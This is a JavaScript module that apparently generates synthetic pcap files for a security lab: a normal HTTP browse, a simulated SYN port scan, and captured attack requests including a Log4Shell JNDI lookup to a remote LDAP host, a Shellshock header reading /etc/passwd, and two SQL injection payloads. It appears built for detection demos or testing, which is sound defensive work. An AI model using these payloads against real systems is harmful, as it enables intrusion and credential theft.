/** The captures of the lab's replay story (src/appliance/lab/story.ts): what curl and nmap send there. */
import { TCP_ACK, TCP_RST, TCP_SYN } from '../../dist/src/packet/index.js';
import { ATTACKER, CLIENT, Capture, SERVER } from './capture.mjs';
import { httpSteps } from './http.mjs';
import { MSS, tcpSession } from './tcp-session.mjs';

const SERVER_NAME = '10.77.0.10';
const CURL = { Host: SERVER_NAME, 'User-Agent': 'curl/8.14.1', Accept: '*/*' };
const NOTHING = new Uint8Array(0);

function visit(client, clientPort, exchanges) {
  const capture = new Capture();
  tcpSession(capture, { client, server: SERVER, clientPort, serverPort: 80 }, httpSteps(exchanges));
  return capture;
}

function homePage() {
  const items = Array.from({ length: 60 }, (_, i) => `<li><a href="/items?id=${i + 1}">Item ${i + 1}</a>: in stock</li>`);
  return `<!doctype html>\n<html><head><title>Lab shop</title></head><body>\n<h1>Lab shop</h1>\n<ul>\n${items.join('\n')}\n</ul>\n</body></html>\n`;
}

/** SYN scan as `nmap -sS` does it: 1000 ports in no particular order, one of them open, the rest answered by RST. */
function synScan() {
  const capture = new Capture();
  const port = 41_337;
  const sequence = 0x5ca1ab1e;
  const open = 80;
  const ports = 1000;
  for (let i = 0; i < ports; i++) {
    const target = ((i * 387) % ports) + 1;
    capture.tcp(ATTACKER, port, SERVER, target, sequence, 0, TCP_SYN, 1024, NOTHING, MSS);
    capture.wait(80);
    if (target === open) {
      capture.tcp(SERVER, target, ATTACKER, port, 0x0badcafe, sequence + 1, TCP_SYN | TCP_ACK, 64_240, NOTHING, MSS);
      capture.wait(80);
      capture.tcp(ATTACKER, port, SERVER, target, sequence + 1, 0, TCP_RST, 0, NOTHING);
    } else {
      capture.tcp(SERVER, target, ATTACKER, port, 0, sequence + 1, TCP_RST | TCP_ACK, 0, NOTHING);
    }
    capture.wait(120);
  }
  return capture;
}

/** File name -> capture. */
export function labCaptures() {
  return new Map([
    ['lab-browse.pcap', visit(CLIENT, 40_100, [{ headers: CURL, response: { body: homePage() } }])],
    ['lab-log4shell.pcap', visit(ATTACKER, 40_200, [{ headers: { ...CURL, 'X-Api-Version': '${jndi:ldap://10.77.0.66:1389/Exploit}' } }])],
    [
      'lab-shellshock.pcap',
      visit(ATTACKER, 40_300, [{ uri: '/cgi-bin/status', headers: { ...CURL, 'User-Agent': '() { :;}; /bin/bash -c "cat /etc/passwd"' } }]),
    ],
    [
      'lab-sqli.pcap',
      visit(ATTACKER, 40_400, [{ uri: '/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-', headers: CURL }]),
    ],
    [
      'lab-web.pcap',
      visit(ATTACKER, 40_500, [{ uri: '/cart', headers: { ...CURL, Host: 'shop.lab', 'Content-Type': 'application/json' }, body: '{"items":[{"sku":"1042","note":"x\' or sleep(9)-- -"}]}' }]),
    ],
    ['lab-scan.pcap', synScan()],
  ]);
}
